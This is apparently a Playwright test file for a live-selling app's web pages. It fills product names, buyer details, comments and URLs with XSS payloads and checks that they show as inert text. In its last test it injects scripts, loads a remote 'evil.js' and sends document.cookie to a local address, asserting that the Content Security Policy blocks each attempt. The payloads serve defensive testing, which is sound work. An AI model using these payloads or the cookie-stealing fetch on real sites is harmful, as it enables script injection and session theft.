"""Script in every field, in a real browser: shown as it was written, and never run."""

from __future__ import annotations

import secrets

import msgspec
import pytest
from playwright.sync_api import Page, expect

from host_assistant.control_room.buyers import sealed_buyer
from host_assistant.show import commands as cmd
from host_assistant.show.buyer import Buyer
from host_assistant.show.comment import Comment
from tests.pages.conftest import SignedIn
from tests.pages.stand import Stand, sample_goods

SCRIPT = "<img src=x onerror=window.pwned=1>"
BREAKOUT = "\"'></script><script>window.pwned=1</script><svg onload=window.pwned=1>"
# What the pages make of data: any other element came out of somebody's words.
FOREIGN = "img[src='x'], svg[onload], script:not([src]):not([type='application/json'])"


@pytest.fixture
def hostile(no_show: Stand) -> Stand:
    """Goods, orders, comments: all that people write holds a script."""
    first, second, *_ = sample_goods(no_show.folder)
    no_show.open(
        secrets.token_hex(4),
        title=BREAKOUT,
        products=(
            msgspec.structs.replace(first, name=SCRIPT),
            msgspec.structs.replace(second, name=BREAKOUT, unit="<b>kg</b>", unit_weight_g=None),
        ),
    )
    for number, words in enumerate((SCRIPT, BREAKOUT)):
        buyer = Buyer(name=words, phone=f"090123456{number}", address=words, country=words)
        no_show.director.do(
            cmd.PlaceOrder(
                order_id=f"{words[:20]}{number}",
                lines=(cmd.Wanted(first.sku, 1000),),
                confirmed=bool(number),
                source=words,
                buyer=sealed_buyer(**msgspec.structs.asdict(buyer)),
            )
        )
        text = f"{words} {first.sku} 2 hay 3"
        no_show.comment(Comment(platform=words[:30], author=words, text=text))
        sure = Comment(platform="x", author=words, text=f"{first.sku} 2 {buyer.phone}")
        no_show.comment(sure)
    no_show.director.do(cmd.ShowProduct(sku=first.sku))
    return no_show


def is_harmless(page: Page) -> None:
    assert page.evaluate("window.pwned") is None
    assert page.locator(FOREIGN).count() == 0


def test_the_helpers_page(hostile: Stand, signed_in: SignedIn) -> None:
    page = signed_in("helper", SCRIPT).page
    expect(page.locator("#tiles")).to_contain_text("onerror=window.pwned")
    is_harmless(page)
    page.tap("#tiles .tile >> nth=0")
    expect(page.locator("#recent-list")).to_contain_text("window.pwned")
    is_harmless(page)
    page.fill("#buyer-name", BREAKOUT)
    page.fill("#buyer-address", SCRIPT)
    page.tap("#take")
    page.tap("#tab-inbox")
    expect(page.locator("#inbox-list")).to_contain_text("onerror=window.pwned")
    is_harmless(page)
    page.tap("#tab-mine")
    expect(page.locator("#mine-list")).to_contain_text("window.pwned")
    is_harmless(page)


def test_the_remote_and_the_screen(hostile: Stand, signed_in: SignedIn) -> None:
    for role in ("remote", "screen"):
        page = signed_in(role, BREAKOUT).page
        expect(page.locator("body")).to_contain_text("onerror=window.pwned")
        is_harmless(page)


def test_an_address_that_holds_a_script(no_show: Stand, signed_in: SignedIn) -> None:
    phone = signed_in("screen")
    for path in (f"/{SCRIPT}", f"/?lang={SCRIPT}", f"/#code={SCRIPT}", f"/screen#{BREAKOUT}"):
        phone.page.goto(no_show.url + path)
        is_harmless(phone.page)
    phone.forget_answers(404)


def test_a_script_that_got_into_a_page_would_not_run(no_show: Stand, signed_in: SignedIn) -> None:
    phone = signed_in("screen")
    phone.page.evaluate(
        """() => {
          document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.pwned=1'>");
          const made = document.createElement("script");
          made.textContent = "window.pwned = 1";
          document.body.append(made);
          const far = document.createElement("script");
          far.src = "http://127.0.0.1:9/evil.js";
          document.body.append(far);
          fetch("http://127.0.0.1:9/?taken=" + document.cookie).catch(() => {});
        }"""
    )
    assert phone.page.evaluate("window.pwned") is None
    assert phone.page.evaluate("document.cookie") in ("", "lang=vi", "lang=en")
    assert any("Content Security Policy" in text for text in phone.said)
    phone.said.clear()
